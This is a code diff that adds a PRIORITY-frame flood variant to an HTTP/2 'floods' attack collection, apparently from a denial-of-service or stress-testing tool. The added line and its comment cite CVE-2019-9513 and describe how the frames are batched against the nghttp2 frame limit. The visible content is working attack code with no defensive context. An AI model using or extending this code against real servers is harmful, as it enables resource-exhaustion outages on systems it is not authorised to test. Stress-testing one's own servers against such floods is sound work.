@@ -36,6 +36,8 @@ export const floods: Attack = {
     ]),
     way('SETTINGS', () => [frame(FRAME.settings, 0, 0)]),
     way('PING', () => [frame(FRAME.ping, 0, 0, Buffer.alloc(8))]),
+    // CVE-2019-9513. Three a turn: nghttp2, which looks at none of them, ends it at 10,000.
+    way('PRIORITY', (id) => Array.from({ length: 3 }, () => frame(FRAME.priority, 0, id, Buffer.of(0, 0, 0, 0, 15)))),
     way('empty DATA', (id, first) => [
       ...(id === 1 ? [headersFrame(1, [[':method', 'POST'], ...first.slice(1)], FLAG.endHeaders)] : []),
       frame(FRAME.data, 0, 1),
